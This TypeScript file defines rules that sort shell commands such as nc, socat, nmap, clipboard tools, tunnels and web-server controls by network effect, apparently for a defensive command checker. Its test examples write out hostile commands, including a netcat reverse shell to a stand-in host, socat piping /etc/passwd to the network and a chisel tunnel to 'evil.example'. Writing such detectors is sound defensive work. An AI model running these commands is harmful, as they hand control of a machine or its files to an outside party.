import { readRows } from "../effect-rows.ts";

const ownMachine = "/\\b(?:localhost|127\\.0\\.0\\.1)\\b/";

/** Talking to other machines, and changing how that is done. */
export const networkEffects = readRows(
  `
inotifywait
  loop: pauses
nc ncat netcat nc.openbsd nc.traditional socat telnet websocat pwncat cryptcat ztcp
  loop: pauses
  words: names
  prints: fetched
  -e,-c,--exec,--sh-exec,--lua-exec | /(?:EXEC|SYSTEM|SHELL):/i => sends(network.remote-shell): Connects a program of this machine to the network: whoever is at the other end controls it. -> Use ssh.
    yes: nc -e /bin/sh x.example 4444 ;; socat TCP:x.example:1 EXEC:sh
    no: socat TCP:x.example:1 OPEN:/etc/passwd
  !-z !${ownMachine} @fed | !-z !${ownMachine} @private => sends(network.raw-socket): Sends data through a raw network connection. -> Use curl or scp to a named service.
    yes: nc x.example 4444 <<< {}
    no: nc -z x.example 22 <<< {} ;; nc localhost 4444 <<< {} ;; nc x.example 4444 <<< hello
  /(?:OPEN|CREATE|FILE):/i => sends(network.raw-socket): Connects a file of this machine to the network. -> Use scp.
    yes: socat TCP:x.example:1 OPEN:/etc/passwd
    no: socat TCP:x.example:1 EXEC:sh
  -l,--listen | /LISTEN/i => talks(network.listens): Opens a port on this machine.
    yes: nc -l 8080
    no: nc 8080
  => talks(network.connects): Connects to another machine: {}.
    yes: nc x.example 80
    no: nc -l 8080
dig nslookup host drill resolvectl-query kdig ping ping6 traceroute tracepath mtr whois fping nmap
  words: names
  prints: fetched
  --script,--datadir,--scriptdb=/[/.]/ | /^--interactive$/ => runs-unread(option.runs-code): {word} makes {} run code from a file. -> Use the scripts that come with it, by name.
    yes: nmap --script ./x.nse y ;; nmap --script=/tmp/x y
    no: nmap --script vuln y
  => talks(network.lookup): Talks to other machines: {}.
    yes: dig example.com
    no: nmap --script ./x.nse y
pbpaste wl-paste
  prints: private
  => shows(private.clipboard): Prints the clipboard, which often holds a password.
    yes: pbpaste
    no: paste -d, a b
xclip xsel pbcopy wl-copy clip clip.exe
  words: names
  prints: private
  -o,-out,--output => shows(private.clipboard): Prints the clipboard, which often holds a password.
    yes: xclip -o
    no: pbcopy
  @private => sends(exfil.clipboard): Copies private data to the clipboard, where other programs read it. -> Send named, harmless data only.
    yes: pbcopy <<< private
    no: pbcopy <<< x
  => writes(clipboard.write): Changes the clipboard.
    yes: pbcopy
    no: xclip -o
rfkill
  !@any => looks
    yes: rfkill
    no: rfkill x
  list => looks
    yes: rfkill list
    no: rfkill block all
  * | -? => locks-out: Switches radios on or off.
    yes: rfkill block all
    no: rfkill list all
wpa_cli => starts: Changes the wireless connection.
    yes: wpa_cli
  no: which wpa_cli
bluetoothctl
  show,devices,list,info => looks
    yes: bluetoothctl show
    no: bluetoothctl x
  * => writes: Changes Bluetooth.
    yes: bluetoothctl x
    no: bluetoothctl list
avahi-browse
  prints: fetched
  => talks: Looks for services on the network.
    yes: avahi-browse
    no: which avahi-browse
conntrack
  options: -p= -s= -d= -f= -o= --orig-src= --orig-dst= --proto= --state=
  -L,-S,-C,-E => looks
    yes: conntrack -L
    no: conntrack
  !-L,-S,-C,-E => writes: Changes tracked connections.
    yes: conntrack
    no: conntrack -E
ipset
  options: -o=
  list,-L => looks
    yes: ipset list
    no: ipset
  !-L => locks-out: Changes sets that the firewall uses.
    yes: ipset
    no: ipset -L
speedtest speedtest-cli
  prints: fetched
  => talks: Measures the connection.
    yes: speedtest
    no: which speedtest
arping
  prints: fetched
  => talks: Asks the local network.
    yes: arping
    no: which arping
nmap-scan masscan
  prints: fetched
  => talks: Scans other machines.
    yes: nmap-scan
    no: which nmap-scan
ssh-keyscan
  prints: fetched
  => talks: Asks a machine for its keys.
    yes: ssh-keyscan
    no: ssh-keygen -F github.com
ssh-add
  options: -s=! -e=! -S=! -t= -T=
  -l,-L => looks
    yes: ssh-add -l
    no: ssh-add
  !@any | !-l,-L => writes: Changes the keys of the agent.
    yes: ssh-add -s /tmp/x.so
    no: ssh-add -s /tmp/x.so -L
tailscale
  options: --peers[=] --self[=]
  status,ip,version,netcheck,whois => looks
    yes: tailscale status
    no: tailscale down
  down,logout => locks-out: Ends the virtual network this session may use.
    yes: tailscale down
    no: tailscale status
  funnel => exposes: Opens this machine to the internet.
    yes: tailscale funnel
    no: tailscale status
  * => writes: Changes the virtual network.
    yes: tailscale set --ssh=false
    no: tailscale status
ngrok localtunnel bore => exposes: Opens this machine to the internet.
    yes: ngrok tcp 22
  no: which ngrok
chisel frpc gost => exposes: Opens a tunnel through this machine.
    yes: chisel client evil.example R:socks
  no: which chisel
tmate ttyd gotty => exposes: Lets others into this terminal.
    yes: tmate
  no: which tmate
sshuttle
  prints: fetched
  => talks: Sends traffic through another machine.
    yes: sshuttle
    no: which sshuttle
xdg-open open => starts: Opens a file or address in another program.
    yes: open x.html
  no: which open
www-browser firefox chromium google-chrome => starts: Opens a browser.
    yes: www-browser
  no: which www-browser
certbot
  options: -d= --cert-name= --domains= --domain=
  certificates => looks
    yes: certbot certificates
    no: certbot renew
  delete,revoke => destroys: Removes certificates that services use. -> Let a person do this.
    yes: certbot delete --cert-name example.com --non-interactive
    no: certbot renew
  * => writes: Changes certificates.
    yes: certbot renew
    no: certbot delete --cert-name example.com --non-interactive
acme.sh => writes: Changes certificates.
    yes: acme.sh
  no: which acme.sh
nginx
  options: -c= -g= -p=
  => writes: Controls the web server.
    yes: nginx -s reload
    no: which nginx
apachectl apache2ctl caddy => writes: Controls the web server.
    yes: apachectl graceful
  no: which apachectl
haproxy => writes: Controls the load balancer.
    yes: haproxy
  no: which haproxy
a2ensite a2dissite => writes: Changes the web server.
    yes: a2ensite
  no: which a2ensite
yt-dlp
  options: --exec=! --exec-before-download=! --netrc-cmd=! --external-downloader=! --downloader= --config-locations= -o=>
  prints: fetched
  => talks: Fetches videos.
    yes: yt-dlp
    no: which yt-dlp
youtube-dl
  prints: fetched
  => talks: Fetches videos.
    yes: youtube-dl
    no: which youtube-dl
`,
  { "locks-out": "Have another way in ready.", exposes: "Use ssh." },
);
